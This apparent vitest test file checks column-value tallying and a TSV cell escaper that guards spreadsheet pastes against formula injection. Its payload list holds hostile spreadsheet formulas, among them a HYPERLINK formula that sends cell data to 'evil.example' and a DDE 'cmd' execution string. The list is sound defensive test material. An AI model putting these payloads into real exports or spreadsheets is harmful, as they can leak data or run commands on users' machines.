import { assert, property, string } from 'fast-check'
import { expect, it } from 'vitest'
import { corpusStrings } from '#tests/_support/files/corpora.ts'
import { tallyOf, tsvCell, valuesOf } from './column-values.ts'

const asked = { search: '', limit: 10, language: 'en' as const }

it('counts each different value, most frequent first, names one by one', () => {
  const text = valuesOf(tallyOf(['Rum', 'Gin', 'Rum', null]), { kind: 'text' }, asked)
  expect(text).toEqual({
    distinct: 3,
    values: [
      { value: 'Rum', text: 'Rum', count: 2 },
      { value: null, text: '', count: 1 },
      { value: 'Gin', text: 'Gin', count: 1 },
    ],
  })
  const names = valuesOf(tallyOf([['a', 'b'], ['b', 'b'], null]), { kind: 'names', label: (code) => code.toUpperCase() }, asked)
  expect(names.values.map(({ value, text, count }) => `${value} ${text} ${count}`)).toEqual(['b B 2', 'null  1', 'a A 1'])
})
it('gives values that a "one of" filter takes, in the displayed form', () => {
  expect(valuesOf(tallyOf([1, 0, 1]), { kind: 'flag' }, asked).values.map(({ value }) => value)).toEqual([true, false])
  expect(valuesOf(tallyOf([125_000]), { kind: 'cents' }, { ...asked, language: 'fr' }).values[0]).toMatchObject({
    value: 125_000,
    text: '1\u202f250,00\u00a0€',
  })
})
it('searches like the table and says how many there are beyond the limit', () => {
  const counts = tallyOf(['Élixir 12', 'elixir', 'Glen'])
  expect(valuesOf(counts, { kind: 'text' }, { ...asked, search: 'ELIXIR', limit: 1 })).toMatchObject({
    distinct: 2,
    values: [{ text: 'elixir' }],
  })
  expect(valuesOf(counts, { kind: 'text' }, { ...asked, search: '12 elixir' }).distinct).toBe(1)
})
it('never lets a cell end its field or its line', () => {
  assert(property(string({ unit: 'binary' }), (text) => !/[\t\n\r\u2028]/.test(tsvCell(`${text}\t\r\n${text}`))))
  expect(tsvCell('a\tb\r\nc')).toBe('a b c')
})

/** Parses one pasted field as a spreadsheet does: removes the quotes. A leading apostrophe marks text. */
const pasted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)
const runs = (text: string) => /^[\s\p{Cc}\p{Cf}]*[=@\uff1d\uff20]|^[\s\p{Cc}\p{Cf}]*[-+\uff0b\uff0d].*[^\d\s.,'’%€$£A-Z]/u.test(text)
const payloads = [
  ...corpusStrings('formula.json'),
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+cmd|x',
  '@SUM(A1)',
  '\t=1',
  '\ufeff=1',
  '\u200b=1',
  ' =1',
  '＝1',
  '\0=1',
  '"=1+1"',
  '"=1+1',
  '+1-555-0100',
  '-A1',
]
it.each(payloads)('guards %j against being run where it is pasted', (text) => {
  expect(runs(pasted(tsvCell(text)))).toBe(false)
  // only one apostrophe is added
  expect(pasted(tsvCell(text)).replace(/^'/, '')).toBe(text.replace(/[\t\n\r]+/g, ' '))
})
it.each([
  '-12.50',
  '-1,250.00\u00a0€',
  '+33 6 12 34 56 78',
  '+33612345678',
  '-5 %',
  '-5%',
  '—',
  '-',
  '12/11/2026',
  "Tomatin 12'",
  'a=b',
  '3-4',
  "'x",
])('leaves %j as it is', (text) => expect(tsvCell(text)).toBe(text))
it('writes the sign of a number as spreadsheets know it', () => {
  expect(tsvCell('\u22121,250.00\u00a0€')).toBe('-1,250.00\u00a0€')
  expect(tsvCell('\u2212A1')).toBe('\u2212A1')
})
it('keeps a text that begins with a quote in its own cell, whole', () => {
  expect(tsvCell('"Le Grand')).toBe('"""Le Grand"')
  assert(
    property(
      string({ unit: 'binary' }),
      (text) => pasted(tsvCell(`"${text}`)) === `"${text}`.replace(/[\t\n\v\f\r\u0085\u2028\u2029]+/g, ' '),
    ),
  )
})
